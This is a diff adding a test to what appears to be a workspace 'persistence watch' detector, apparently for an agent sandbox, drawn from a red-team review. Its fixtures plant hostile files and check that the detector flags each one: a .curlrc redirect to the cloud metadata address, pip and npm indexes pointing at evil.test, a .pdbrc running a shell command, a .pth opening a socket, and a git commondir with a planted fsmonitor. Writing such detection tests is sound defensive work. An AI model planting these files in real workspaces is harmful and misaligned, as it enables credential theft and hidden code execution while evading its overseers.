@@ -302,3 +302,39 @@ test('persistence watch: with a listing cache the user site is not read again wh
   assert.deepEqual(persistenceChanges(before, after).map((c) => c.path), [`${real}/zz.pth`]);
   assert.equal(cache.get(real)?.list.length, 51, 'read again once the directory changed');
 });
+
+test('persistence watch: tool configurations later commands obey, virtual environments\' sites and a git commondir are watched (a red-team review, session 41)', (t) => {
+  // a .curlrc's connect-to sent a later `curl` of an allowed name to the metadata address; pip/npm indexes; pdb/gdb commands
+  const tools = changesOf(t, (ws) => mkdirSync(join(ws, '.config', 'pip'), { recursive: true }), (ws) => {
+    writeFileSync(join(ws, '.curlrc'), 'connect-to = registry.test:80:169.254.169.254:80\n');
+    writeFileSync(join(ws, '.config', 'pip', 'pip.conf'), '[global]\nindex-url = http://evil.test/simple\n');
+    writeFileSync(join(ws, '.npmrc'), 'registry=http://evil.test/\n');
+    writeFileSync(join(ws, '.pdbrc'), '!import os; os.system("id")\n');
+  });
+  assert.deepEqual(tools.map((c) => c.path).sort(), ['.config/pip/pip.conf', '.curlrc', '.npmrc', '.pdbrc']);
+  assert.ok(tools.every((c) => /^tool configuration later commands obey/.test(c.what)));
+
+  // a .pth with code in a project's virtual environment (top level and one level down); virtualenv's own line is not one
+  const venv = (ws: string, at: string) => { mkdirSync(join(ws, at, 'lib', 'python3.11', 'site-packages'), { recursive: true }); writeFileSync(join(ws, at, 'pyvenv.cfg'), 'home = /usr/bin\n'); };
+  const sites = changesOf(t, (ws) => { venv(ws, '.venv'); venv(ws, 'proj/venv'); mkdirSync(join(ws, 'notvenv', 'lib', 'python3.11', 'site-packages'), { recursive: true }); }, (ws) => {
+    writeFileSync(join(ws, '.venv', 'lib', 'python3.11', 'site-packages', 'zz.pth'), 'import socket; socket.create_connection(("10.0.0.5", 5432))\n');
+    writeFileSync(join(ws, '.venv', 'lib', 'python3.11', 'site-packages', '_virtualenv.pth'), 'import _virtualenv\n');
+    writeFileSync(join(ws, 'proj', 'venv', 'lib', 'python3.11', 'site-packages', 'sitecustomize.py'), 'import os\n');
+    writeFileSync(join(ws, 'notvenv', 'lib', 'python3.11', 'site-packages', 'zz.pth'), 'import os\n');
+  });
+  assert.deepEqual(sites.map((c) => c.path).sort(), ['.venv/lib/python3.11/site-packages/zz.pth', 'proj/venv/lib/python3.11/site-packages/sitecustomize.py']);
+
+  // commondir: .git copied aside, core.fsmonitor planted in the copy, commondir pointing at it
+  const common = changesOf(t, (ws) => { gitRepo(ws); gitRepo(ws, '.cache/gd'); }, (ws) => {
+    writeFileSync(join(ws, '.cache', 'gd', 'config'), FSM);
+    writeFileSync(join(ws, '.git', 'commondir'), '../.cache/gd\n');
+  });
+  assert.deepEqual(common.map((c) => c.path).sort(), ['.cache/gd/config', '.git/commondir']);
+  // what `git worktree add` writes is not one: a linked worktree's commondir naming its main git directory
+  assert.deepEqual(changesOf(t, (ws) => gitRepo(ws), (ws) => {
+    mkdirSync(join(ws, '.git', 'worktrees', 'wt'), { recursive: true });
+    writeFileSync(join(ws, '.git', 'worktrees', 'wt', 'commondir'), '../..\n');
+    mkdirSync(join(ws, 'wt'));
+    writeFileSync(join(ws, 'wt', '.git'), 'gitdir: /workspace/.git/worktrees/wt\n');
+  }), []);
+});
